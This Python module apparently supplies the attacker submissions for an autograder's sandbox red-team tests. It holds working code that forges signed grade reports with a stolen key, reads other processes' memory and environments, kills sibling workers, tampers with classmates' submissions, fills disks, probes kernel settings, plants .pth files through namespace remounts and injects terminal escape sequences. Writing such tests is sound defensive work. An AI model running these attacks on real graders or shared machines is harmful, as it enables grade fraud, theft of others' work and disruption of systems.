"""The attackers of the cross-student red team (test_cross_student.py), as source text.

Each attacker is a submission: the reference (it passes by itself) or seven wrong functions,
then PRELUDE (what it is told: every path it could want, as absolute paths), its attack, and
EPILOGUE, which prints what it did. It reports in its own output, which the grader puts in its
report: "ATTACK-SUCCEEDED ..." for each thing it achieved (the tests require none), "ATTACK-STEP
..." for what it must have done for the attack to mean anything, and "ATTACK-RAN <student>" at
the end. The texts that would otherwise show up in a report by being quoted from the source
("ATTACK-" + "SUCCEEDED") are put together at run time.

What acts on other processes or on the machine's Python is bounded so that a broken
confinement cannot harm the machine: kill(-1), "every pid it can see" and writes into the
Python only when the attacker is PID 1 (alone in a PID namespace), otherwise only processes
below this batch's grader. A process left behind ends by itself after LINGER_S.
"""

import json
from dataclasses import dataclass

from tests.conftest import REFERENCE
from tests.redteam.test_redteam import WRONG_FUNCTIONS

LINGER_S = 20.0
"""A process an attacker leaves behind ends by itself after this long."""

PRELUDE = r'''
import ctypes, errno, hashlib, hmac, json, os, platform, signal, socket, sys, time
CONTEXT = json.loads(@CONTEXT@)
TOKEN, MARK, ME = CONTEXT["token"], CONTEXT["mark"], CONTEXT["me"]
TMP = os.environ.get("TMPDIR") or "/tmp"  # the worker's own folder: /tmp, or /scratch


def own(path):
    """`path` with the worker's own folder written TMP, wherever it is, for the steps."""
    return "TMP" + path[len(TMP):] if path.startswith(TMP + "/") else path
SUB, OUT, KEY, REF, KIT = (CONTEXT[name] for name in ("sub", "out", "key", "ref", "kit"))
STUDENTS = CONTEXT["students"]
"""Every other student's file, by absolute path."""
LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.shmget.restype = ctypes.c_int
LIBC.shmget.argtypes = (ctypes.c_int, ctypes.c_size_t, ctypes.c_int)
LIBC.shmat.restype = ctypes.c_void_p
LIBC.shmat.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_int)
LIBC.syscall.restype = ctypes.c_long
ADD_KEY, KEYCTL = {"x86_64": (248, 250), "aarch64": (217, 219)}.get(platform.machine(), (-1, -1))
KEYRINGS = ((-4, "user"), (-5, "user-session"), (-3, "session"))
"""The kernel's keyrings a process reaches by name (KEY_SPEC_*)."""
_LINES = []


def won(what, detail=""):
    line = "ATTACK-" + "SUCCEEDED " + what + (": " + str(detail)[:300] if detail != "" else "")
    if line not in _LINES:
        _LINES.append(line)


def step(what):
    _LINES.append("ATTACK-" + "STEP " + what)


def finish():
    print("\n".join(_LINES + ["ATTACK-" + "RAN " + ME]), flush=True)


def parent_of(pid):
    with open("/proc/%d/stat" % pid) as handle:
        return int(handle.read().rsplit(")", 1)[1].split()[1])


def pids():
    return sorted(int(entry) for entry in os.listdir("/proc") if entry.isdigit())


def linger(body, seconds=@LINGER_S@):
    """Leave a process behind (double fork, a session of its own, named MARK) that runs body()
    every 50 ms for `seconds` at most; returns in the submission at once."""
    reading, writing = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                LIBC.prctl(15, MARK.encode(), 0, 0, 0)  # PR_SET_NAME
                os.write(writing, b"1")
                end = time.monotonic() + seconds
                while time.monotonic() < end:
                    try:
                        body()
                    except BaseException:
                        pass
                    time.sleep(0.05)
        finally:
            os._exit(0)
    os.close(writing)
    os.waitpid(child, 0)
    if os.read(reading, 1) == b"1":
        step("left a process behind")
    os.close(reading)
'''

EPILOGUE = '''
try:
    attack()
except Exception as error:
    step("stopped by %s: %s" % (type(error).__name__, str(error)[:100]))
finish()
'''


@dataclass(frozen=True)
class Attack:
    """One attacker: a student whose submission is `base` plus `code` (which defines attack())."""

    student: str
    number: int
    """The attack's number in issue 10's list (14: a later student's submission rewritten)."""
    code: str
    base: str = "reference"
    """"reference" (it passes by itself: 10/10) or "wrong" (0 unless it steals right code)."""
    steps: tuple = ()
    """What the attacker must report having done for the attack to mean anything."""
    error: str = None
    """A word its report's error must hold (None: no error)."""
    after: str = ""
    """Code run after the attack has printed what it did (a raise at import)."""

    @property
    def score(self) -> int:
        return 10 if self.base == "reference" else 0


REWRITE_REPORTS = '''
def attack():
    rewritten = set()
    end = time.monotonic() + 0.8
    while time.monotonic() < end:
        paths = {os.path.join(OUT, student + ".json") for student in STUDENTS}
        try:
            paths |= {os.path.join(OUT, name) for name in os.listdir(OUT)
                      if name.endswith(".json") and name != "batch.json"}
        except OSError:
            pass
        for path in sorted(paths - rewritten):
            try:
                with open(path) as handle:
                    report = json.load(handle)
                report["score"] = 0
                for exercise in report["exercises"]:
                    exercise.update(score=0, passed=False)
                with open(path, "w") as handle:
                    json.dump(report, handle, indent=2)  # its signature kept
                rewritten.add(path)
            except (OSError, ValueError, KeyError, TypeError):
                pass
        time.sleep(0.05)
    for path in sorted(rewritten):
        won("rewrote a report to 0 points", path)
'''

PLANT_REPORTS = '''
def attack():
    genuine = json.loads(CONTEXT["genuine"])  # a_alice's signed 10/10, from an earlier run
    made_up = dict(genuine, submission=STUDENTS["y_yuri_weak"])
    made_up.pop("grader_signature")
    plants = {"y_yuri_weak.json": json.dumps(made_up, indent=2),        # a made-up full score
              "w_copies_signature.json": json.dumps(dict(genuine, score=10), indent=2),
              "z_zoe.json": json.dumps(dict(genuine, score=0), indent=2),  # a copied signature
              "x_finds_traces.json": CONTEXT["genuine"],                 # another's genuine report
              "zz_ghost.json": CONTEXT["genuine"]}                       # a student who is not
    planted = set()
    end = time.monotonic() + 0.6
    while time.monotonic() < end and len(planted) < len(plants):
        for name, text in plants.items():
            try:
                with open(os.path.join(OUT, name), "w") as handle:
                    handle.write(text)
                planted.add(name)
            except OSError:
                pass
        time.sleep(0.05)
    for name in sorted(planted):
        won("planted a report", name)
'''

READ_OTHERS = '''
def attack():
    stolen = []
    for student, path in sorted(STUDENTS.items()):
        for candidate in (path, "/proc/1/root" + path, "/proc/self/root" + path):
            try:
                with open(candidate) as handle:
                    text = handle.read()
            except (OSError, UnicodeDecodeError):
                continue
            secret = [line for line in text.splitlines() if "BPK-" + "SECRET" in line]
            won("read " + student, " ".join(secret) or text[:60])
            if secret:
                stolen.append(text)
            break
    for folder in (SUB, os.path.dirname(SUB), OUT):
        try:
            won("listed " + folder, sorted(os.listdir(folder)))
        except OSError:
            pass
    for text in stolen:  # an honest student's right functions, graded as mine
        exec(text, globals())
'''

WRITE_GRADEBOOK = '''
def attack():
    names = ["forward_propagation", "compute_cost", "compute_dZ2", "compute_dZ1", "compute_dW",
             "compute_db", "backward_propagation"]
    book = "student," + ",".join(names) + ",total,max_score,error\\n" + "".join(
        student + "," + ",".join("0" for _ in names) + ",0,10,\\n" for student in STUDENTS)
    book += ME + ",2,1,1,2,1,1,2,10,10,\\n"
    record = json.dumps({"seed": 1, "confinement": {"confined": True, "reason": None,
                                                    "worker_user": None}})
    written = set()
    end = time.monotonic() + 0.6
    while time.monotonic() < end:
        for name, text in (("gradebook.csv", book), ("batch.json", record)):
            try:
                with open(os.path.join(OUT, name), "w") as handle:
                    handle.write(text)
                written.add(name)
            except OSError:
                pass
        time.sleep(0.05)
    for name in sorted(written):
        won("wrote", name)
'''

READ_PROC = '''
def read_memory(pid, budget):
    try:
        with open("/proc/%d/maps" % pid) as handle:
            regions = [line.split() for line in handle]
        memory = open("/proc/%d/mem" % pid, "rb", buffering=0)
    except OSError:
        return None
    with memory:
        readable = False
        for fields in regions:
            start, end = (int(x, 16) for x in fields[0].split("-"))
            if "r" not in fields[1] or end - start > 64 * 2**20 or budget[0] <= 0:
                continue
            try:
                memory.seek(start)
                chunk = memory.read(end - start)
            except (OSError, ValueError, OverflowError):
                continue
            readable = True
            budget[0] -= len(chunk)
            at = chunk.find(b"BPK-" + b"SECRET-")
            if at >= 0:
                return chunk[at:at + 64].decode("ascii", "replace")
        return "readable" if readable else None


def attack():
    budget = [256 * 2**20]
    commands, environments, folders, memories = {}, [], [], []
    for pid in [pid for pid in pids() if pid != os.getpid()]:
        try:
            with open("/proc/%d/cmdline" % pid, "rb") as handle:
                commands[pid] = handle.read().replace(b"\\0", b" ")
        except OSError:
            continue
        try:
            with open("/proc/%d/environ" % pid, "rb") as handle:
                environments.append((pid, handle.read()))
        except OSError:
            pass
        try:
            folders.append((pid, sorted(os.listdir("/proc/%d/cwd" % pid))[:8]))
        except OSError:
            pass
        try:
            ours = os.getpid() == 1 or OUT.encode() in commands[pid] or pid == os.getppid() \\
                or parent_of(pid) == os.getppid()
        except (OSError, ValueError, IndexError):
            ours = False
        if ours:  # alone in a PID namespace: all it sees; else this batch's grader and workers
            found = read_memory(pid, budget)
            if found:
                memories.append("%d: %s" % (pid, found))
    # The worst first: the report keeps only the start of what a submission prints.
    for found in memories:
        won("read another process's memory", found)
    for pid, command in sorted(commands.items()):
        if OUT.encode() in command or b"autograder" in command:
            won("read the grader's command line", command[:200].decode("utf-8", "replace"))
    for pid, environment in environments:
        if b"HOME=" in environment and (OUT.encode() in commands.get(pid, b"")
                                        or b"autograder" in commands.get(pid, b"")):
            won("read the grader's environment", environment[:200].decode("utf-8", "replace"))
    if commands:
        won("read the command lines of %d other processes" % len(commands))
    if environments:
        won("read the environments of %d other processes" % len(environments))
    if folders:
        won("listed the working folders of %d other processes" % len(folders), folders[:2])
    for pid in (1, os.getpid()):  # its own and PID 1's environment: nothing of the class
        try:
            with open("/proc/%d/environ" % pid, "rb") as handle:
                environment = handle.read()
        except OSError:
            continue
        for word in (OUT, SUB, KEY):
            if word.encode() in environment:
                won("found in /proc/%d/environ" % pid, word)
'''

SIGNAL_SIBLINGS = '''
def ancestors():
    chain, pid = set(), os.getpid()
    while pid > 1:
        chain.add(pid)
        try:
            pid = parent_of(pid)
        except (OSError, ValueError, IndexError):
            break
    return chain


def targets():
    seen = [pid for pid in pids() if pid != os.getpid()]
    if os.getpid() == 1:  # alone in a PID namespace: every process it can see
        return seen
    # Not confined: only what lies below this batch's grader (a failing test must not take the
    # machine down); the grader and the zygote are spared, the other workers are not.
    graders, children = set(), {}
    for pid in seen:
        try:
            with open("/proc/%d/cmdline" % pid, "rb") as handle:
                if OUT.encode() in handle.read():
                    graders.add(pid)
            children.setdefault(parent_of(pid), set()).add(pid)
        except (OSError, ValueError, IndexError):
            pass
    below, pending = set(), list(graders)
    while pending:
        for child in children.get(pending.pop(), ()):
            if child not in below:
                below.add(child)
                pending.append(child)
    return sorted(below - ancestors())


def attack():
    killed = set()
    end = time.monotonic() + 1.0
    while time.monotonic() < end:
        if os.getpid() == 1:
            try:
                os.kill(-1, signal.SIGKILL)
                won("kill(-1, SIGKILL) reached a process")
            except OSError:
                pass
        for pid in targets():
            try:
                os.kill(pid, signal.SIGKILL)
                killed.add(pid)
            except OSError:
                pass
        time.sleep(0.01)
    if killed:
        won("killed", sorted(killed))
'''

LINGER = '''
def attack():
    zygote = os.getppid()  # 0 when confined: its parent is outside its PID namespace

    def haunt():
        for student in STUDENTS:
            path = os.path.join(OUT, student + ".json")
            try:
                with open(path) as handle:
                    report = json.load(handle)
                with open(path, "w") as handle:
                    json.dump(dict(report, score=0), handle)
            except (OSError, ValueError, TypeError):
                pass
        for name in ("gradebook.csv", "batch.json"):
            try:
                with open(os.path.join(OUT, name), "w") as handle:
                    handle.write("LINGERED")
            except OSError:
                pass
        for folder in (TMP, "/tmp", "/dev/shm"):
            try:
                with open(os.path.join(folder, "bpk-linger-" + TOKEN), "w") as handle:
                    handle.write("LINGERED")
            except OSError:
                pass
        if zygote <= 1:
            return
        for pid in pids():  # where workers are not confined: the later ones, its siblings
            try:
                if pid == os.getpid() or parent_of(pid) != zygote:
                    continue
                folder = os.readlink("/proc/%d/cwd" % pid)
                with open(os.path.join(folder, "output.txt"), "a") as handle:
                    handle.write("LINGERED")
                os.kill(pid, signal.SIGKILL)
            except (OSError, ValueError, IndexError):
                pass

    linger(haunt)
'''

LEAVE_TRACES = '''
def attack():
    for path in (TMP + "/bpk-drop-" + TOKEN, "/dev/shm/bpk-drop-" + TOKEN,
                 os.path.join(os.path.dirname(os.getcwd()), "bpk-drop-" + TOKEN)):
        try:
            with open(path, "w") as handle:
                handle.write("BPK-DROP " + TOKEN)
            step("left " + own(path))
        except OSError:
            pass
    memory = LIBC.shmget(CONTEXT["shm_key"], 4096, 0o1000 | 0o666)  # IPC_CREAT
    if memory >= 0:
        address = LIBC.shmat(memory, None, 0)
        if address not in (None, ctypes.c_void_p(-1).value):
            ctypes.memmove(address, b"BPK-DROP", 8)
            step("made SysV shared memory")
    sockets = []
    for address in ("\\0bpk-drop-" + TOKEN, TMP + "/bpk-sock-" + TOKEN):
        held = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        try:
            held.bind(address)
            held.listen(8)
            sockets.append(held)
            step("bound a unix socket " + ("(abstract)" if address[0] == "\\0" else own(address)))
        except OSError:
            held.close()
    linger(lambda: sockets)  # the process left behind keeps the sockets open
'''

FIND_TRACES = '''
def attack():
    for folder in (TMP, "/tmp", "/dev/shm", os.path.dirname(os.getcwd())):
        try:
            names = [name for name in os.listdir(folder) if TOKEN in name]
        except OSError:
            continue
        if names:
            won("found in " + folder, sorted(names))
    try:
        foreign = sorted(os.listdir(TMP))
    except OSError:
        foreign = []
    if foreign:
        won("found files in its /tmp", foreign[:10])
    memory = LIBC.shmget(CONTEXT["shm_key"], 0, 0)
    if memory >= 0:
        address = LIBC.shmat(memory, None, 0o10000)  # SHM_RDONLY
        attached = address not in (None, ctypes.c_void_p(-1).value)
        won("found SysV shared memory", ctypes.string_at(address, 8) if attached else b"")
    for address in ("\\0bpk-drop-" + TOKEN, TMP + "/bpk-sock-" + TOKEN):
        probe = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        try:
            probe.connect(address)
            won("connected to a unix socket", repr(address))
        except OSError:
            pass
        finally:
            probe.close()
    import site
    for folder in site.getsitepackages() + [sys.prefix, "/usr/lib", "/"]:
        if os.path.exists(os.path.join(folder, "bpk-poison-" + TOKEN + ".pth")):
            won("found what another worker wrote into its Python", folder)
    step("looked for what others left")
'''

FILL_DISK = '''
BLOCK = b"\\0" * 2**20


def fill(folder, cap_mb=100):
    written, why, index = 0, "nothing stopped it", 0
    while written < cap_mb * 2**20:
        path = os.path.join(folder, "bpk-fill-%s-%d.bin" % (TOKEN, index))
        index += 1
        try:
            with open(path, "wb") as handle:
                for _ in range(15):  # under the 16 MB a file may hold
                    handle.write(BLOCK)
                    handle.flush()
                    written += len(BLOCK)
        except OSError as error:
            why = errno.errorcode.get(error.errno, str(error.errno))
            if error.errno != errno.EFBIG:
                break
    return written // 2**20, why


def attack():
    megabytes, why = fill(TMP)
    step("filled /tmp: %d MB, then %s" % (megabytes, why))
    if megabytes > 70:
        won("wrote %d MB into /tmp" % megabytes)
    for folder in (OUT, SUB, "/dev/shm", os.path.dirname(os.getcwd()),
                   os.path.dirname(os.path.dirname(os.path.dirname(KEY)))):
        megabytes, why = fill(folder)
        if megabytes:
            won("wrote %d MB into %s" % (megabytes, folder))
'''

FORGE_WITH_KEY = '''
def forged(key, student, score):
    report = json.loads(CONTEXT["genuine"])
    report.pop("grader_signature")
    report.update(score=score, submission=STUDENTS.get(student, ""))
    for exercise in report["exercises"]:
        exercise.update(score=exercise["max_score"] if score else 0, passed=bool(score))
    text = json.dumps(report, indent=2)
    mac = hmac.new(key, student.encode() + b"\\0" + text.encode(), hashlib.sha256).hexdigest()
    return json.dumps(dict(report, grader_signature=mac), indent=2)


def plant(key):
    planted = []
    for student, score in (("y_yuri_weak", 10), (ME, 10), ("a_alice", 0), ("z_zoe", 0)):
        try:
            with open(os.path.join(OUT, student + ".json"), "w") as handle:
                handle.write(forged(key, student, score))
            planted.append(student)
        except OSError:
            pass
    return planted


def attack():
    home = os.path.dirname(os.path.dirname(os.path.dirname(KEY)))
    key = None
    for path in (KEY, os.path.expanduser("~/.cache/backprop-kit/report-key"),
                 "/root/.cache/backprop-kit/report-key", "/proc/1/root" + KEY):
        try:
            with open(path) as handle:
                key = bytes.fromhex(handle.read().strip())
        except (OSError, ValueError):
            continue
        won("read the report key", path + " " + key.hex())
        break
    try:
        won("listed the grader's home", sorted(os.listdir(home)))
    except OSError:
        pass
    if key is None:
        return
    for student in plant(key):
        won("forged a signed report", student)
    linger(lambda: plant(key))  # again and again, after the grader has written its own
'''

TAMPER_SUBMISSIONS = '''
def attack():
    changes = {STUDENTS["z_zoe"]: CONTEXT["wrong"],                  # sabotage a classmate
               STUDENTS["y_yuri_weak"]: CONTEXT["reference"],        # help a friend
               os.path.join(SUB, "zz_new_student.py"): CONTEXT["wrong"]}
    for path, text in changes.items():
        for how in ("write", "replace"):
            try:
                if how == "write":
                    with open(path, "w") as handle:
                        handle.write(text)
                else:  # a file it may not write, in a folder it owns
                    with open(path + ".new", "w") as handle:
                        handle.write(text)
                    os.replace(path + ".new", path)
                won("changed a submission (%s)" % how, path)
                break
            except OSError:
                pass
'''

READ_KIT = '''
def attack():
    candidates = [REF, os.path.join(KIT, "solutions", "two_layer_net.py"),
                  os.path.join(KIT, "autograder", "cli.py"), "/proc/1/root" + REF]
    for pid in pids():
        candidates.append("/proc/%d/cwd/solutions/two_layer_net.py" % pid)
    for path in candidates:
        try:
            with open(path) as handle:
                text = handle.read()
        except (OSError, UnicodeDecodeError):
            continue
        lines = [line.strip() for line in text.splitlines() if "dZ1 = " in line]
        won("read " + path, " ".join(lines) or text[:60])
        if "def compute_dZ1" in text:
            exec(text, globals())  # the reference's functions, graded as mine
    try:
        # The Python the worker runs from may lie in the kit (the README's .venv): that
        # folder is there by design; anything else of the kit is not.
        python = {os.path.relpath(p, KIT).split(os.sep)[0] for p in (sys.prefix, sys.base_prefix)
                  if os.path.realpath(p).startswith(os.path.realpath(KIT) + os.sep)}
        listed = sorted(set(os.listdir(KIT)) - python)
        if listed:
            won("listed the kit", listed)
    except OSError:
        pass
'''

POISON_PYTHON = '''
def attack():
    import site
    import numpy
    name = "bpk-poison-" + TOKEN + ".pth"
    folders = sorted(set(site.getsitepackages() + [os.path.dirname(numpy.__file__), sys.prefix,
                                                    os.path.dirname(sys.executable), "/usr/lib",
                                                    "/"]))
    if os.getpid() != 1:
        step("not alone in a PID namespace: not tried, lest the machine's Python be changed")
        return
    reading, writing = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            def write_all(how):
                for folder in folders:
                    try:
                        with open(os.path.join(folder, name), "w") as handle:
                            handle.write("/nonexistent-bpk-poison\\n")  # harmless if it got there
                        os.write(writing, ("W%s (%s)\\n" % (folder, how)).encode())
                    except OSError:
                        pass
            write_all("as it is")
            # A user namespace of its own, where it holds every capability: remount read-write?
            if LIBC.unshare(0x10000000 | 0x00020000) == 0:  # CLONE_NEWUSER | CLONE_NEWNS
                os.write(writing, b"Umade a user and mount namespace of its own\\n")
                for folder in folders:
                    kept = os.statvfs(folder).f_flag  # flags a user namespace may not clear
                    flags = 32 | 4096 | (kept & (2 | 4 | 8 | 1024 | 2048)) | (
                        1 << 21 if kept & 4096 else 0)  # MS_REMOUNT | MS_BIND, not MS_RDONLY
                    if LIBC.mount(None, folder.encode(), None, flags, None) == 0:
                        os.write(writing, ("Rremounted %s read-write\\n" % folder).encode())
                write_all("in a user namespace of its own")
        finally:
            os._exit(0)
    os.close(writing)
    os.waitpid(child, 0)
    with os.fdopen(reading) as handle:
        for line in handle:
            if line[0] == "U":
                step(line[1:].strip())
            elif line[0] == "R":
                won(line[1:].strip())
            elif line[0] == "W":
                won("wrote into the Python later workers run", line[1:].strip())
    step("tried to change the Python")
'''

ESCAPE_TERMINAL = '''
def attack():
    step("raises at import, its message made to rewrite the instructor's terminal")
'''

ESCAPE_TERMINAL_RAISE = '''
raise ValueError("\\x1b[2J\\x1b[H"              # clear the screen, cursor home
                 "\\x1b[3A\\x1b[2K\\x9b2K"      # up 3 lines and erase one (ESC [ and C1 CSI)
                 "\\x1b]0;graded\\x07\\r"       # the window's title; back to the line's start
                 "Graded 0 of 0 submissions.")
'''

KERNEL_SETTINGS = '''
def attack():
    # Settings of the whole machine (no namespace of the worker's holds them): a core_pattern
    # "|program" is run as root outside every namespace, a tiny pid_max or file-max makes every
    # other worker and the grader fail. Only opened for writing, never changed, but for pid_max
    # written back with the value it has, to show that the write itself goes through.
    for name in ("kernel/core_pattern", "kernel/pid_max", "kernel/threads-max", "fs/file-max",
                 "vm/overcommit_memory", "kernel/hostname"):
        try:
            os.close(os.open("/proc/sys/" + name, os.O_WRONLY))
            won("may change the machine's " + name.replace("/", "."))
        except OSError:
            pass
    try:
        with open("/proc/sys/kernel/pid_max") as handle:
            value = handle.read()
        with open("/proc/sys/kernel/pid_max", "w") as handle:
            handle.write(value)
        won("wrote the machine's kernel.pid_max", value.strip())
    except OSError:
        pass
    devices = sorted(os.path.join(folder, name) for folder, _, names in os.walk("/proc/bus/pci")
                     if folder != "/proc/bus/pci" for name in names)  # PCI configuration space
    for path in ["/proc/sysrq-trigger", "/proc/irq/default_smp_affinity", *devices[:1]]:
        try:
            os.close(os.open(path, os.O_WRONLY))
            won("may write " + path)
        except OSError:
            pass
    step("looked at the machine's kernel settings")
'''

DEVICES = '''
def attack():
    import stat
    # The devices are the machine's own inodes: a mode of 000 on /dev/null would leave every
    # later worker, and every user of the machine, without it. Set only to the mode they have.
    for path in ("/dev/null", "/dev/zero", "/dev/full", "/dev/random", "/dev/urandom"):
        try:
            os.chmod(path, stat.S_IMODE(os.stat(path).st_mode))
            won("may change the mode of the machine's " + path)
        except OSError:
            pass
    step("looked at the devices")
'''

LEAVE_KEYS = '''
def attack():
    for ring, name in KEYRINGS:
        description = ("bpk-drop-%s-%s" % (TOKEN, name)).encode()
        key = LIBC.syscall(ADD_KEY, b"user", description, b"BPK-DROP", 8, ring)
        if key > 0:
            LIBC.syscall(KEYCTL, 15, key, 60)  # KEYCTL_SET_TIMEOUT: gone within a minute
            step("left a key in the %s keyring" % name)
    step("tried the kernel's keyrings")
'''

FIND_KEYS = '''
def attack():
    for ring, name in KEYRINGS:
        description = ("bpk-drop-%s-%s" % (TOKEN, name)).encode()
        key = LIBC.syscall(KEYCTL, 10, ring, b"user", description, 0)  # KEYCTL_SEARCH
        if key > 0:
            data = ctypes.create_string_buffer(64)
            size = LIBC.syscall(KEYCTL, 11, key, data, 64)  # KEYCTL_READ
            won("found a key another worker left in the %s keyring" % name,
                data.raw[:max(size, 0)])
    step("looked in the kernel's keyrings")
'''

ATTACKS = (
    Attack("b_rewrites_reports", 1, REWRITE_REPORTS),
    Attack("c_plants_reports", 2, PLANT_REPORTS),
    Attack("d2_leaves_keys", 19, LEAVE_KEYS, steps=("tried the kernel's keyrings",)),
    Attack("d_leaves_traces", 12, LEAVE_TRACES,
           steps=("left TMP/bpk-drop-", "made SysV shared memory",
                  "bound a unix socket (abstract)", "bound a unix socket TMP/bpk-sock-",
                  "left a process behind")),
    Attack("e_lingers", 7, LINGER, steps=("left a process behind",)),
    Attack("f_reads_proc", 5, READ_PROC),
    Attack("g_signals", 6, SIGNAL_SIBLINGS),
    Attack("h_reads_others", 3, READ_OTHERS, base="wrong"),
    Attack("m_writes_gradebook", 4, WRITE_GRADEBOOK),
    Attack("p_fills_disk", 10, FILL_DISK, steps=("filled /tmp: ", "then ENOSPC")),
    Attack("q_forges_with_key", 11, FORGE_WITH_KEY),
    Attack("r_tampers_submissions", 14, TAMPER_SUBMISSIONS),
    Attack("s_reads_kit", 13, READ_KIT, base="wrong"),
    Attack("t_escapes_terminal", 15, ESCAPE_TERMINAL, base="wrong", error="ValueError",
           after=ESCAPE_TERMINAL_RAISE),
    Attack("u_poisons_python", 16, POISON_PYTHON,
           steps=("made a user and mount namespace of its own", "tried to change the Python")),
    Attack("v_writes_kernel_settings", 17, KERNEL_SETTINGS,
           steps=("looked at the machine's kernel settings",)),
    Attack("w_chmods_devices", 18, DEVICES, steps=("looked at the devices",)),
    Attack("x2_finds_keys", 19, FIND_KEYS, steps=("looked in the kernel's keyrings",)),
    Attack("x_finds_traces", 12, FIND_TRACES, steps=("looked for what others left",)),
)
ATTACKERS = {attack.student: attack for attack in ATTACKS}


def attacker_source(attack: Attack, context: dict) -> str:
    """The submission of `attack`, told `context` (paths, the token, a genuine report...)."""
    base = REFERENCE.read_text() if attack.base == "reference" else WRONG_FUNCTIONS
    prelude = PRELUDE.replace("@CONTEXT@", repr(json.dumps(context))).replace(
        "@LINGER_S@", repr(LINGER_S))
    return base + "\n" + prelude + "\n" + attack.code + "\n" + EPILOGUE + attack.after


def combined(*codes: str) -> str:
    """One attack() that runs each of `codes`' attack() in turn, each to its end."""
    parts, names = [], []
    for number, code in enumerate(codes):
        name = f"attack_{number}"
        parts.append(code.replace("def attack():", f"def {name}():"))
        names.append(name)
    calls = "".join(f"    try:\n        {name}()\n    except Exception as error:\n"
                    f"        step('{name} stopped by ' + type(error).__name__)\n"
                    for name in names)
    return "\n".join(parts) + "\n\ndef attack():\n" + calls


TAMPER_ANY = '''
def attack():
    def tamper():
        changed = []
        for path in STUDENTS.values():
            try:
                with open(path, "a") as handle:
                    handle.write("\\n# changed by another submission\\n")
                changed.append(path)
            except OSError:
                pass
        for name, text in (("results.json", '{"score": 10, "tests": []}'),
                           ("gradebook.csv", "student,total\\n")):
            try:
                with open(os.path.join(OUT, name), "w") as handle:
                    handle.write(text)
                changed.append(os.path.join(OUT, name))
            except OSError:
                pass
        return changed

    for path in tamper():
        won("changed", path)
    linger(tamper)
'''
"""Change every other file it is told of, and RESULTS' results.json; then keep doing so."""

SINGLE_SUBMISSION = combined(READ_OTHERS, READ_KIT, READ_PROC, FORGE_WITH_KEY, TAMPER_ANY)
"""What one submission graded alone (`grade`, `gradescope-run`) tries."""

TELL_THROUGH_A_HINT = '''
def compute_cost(A2, Y):
    raise RuntimeError("\\n".join(_LINES + ["ATTACK-" + "RAN " + ME]))
'''
"""Gradescope's results.json holds no output: a failing function's message carries the lines."""
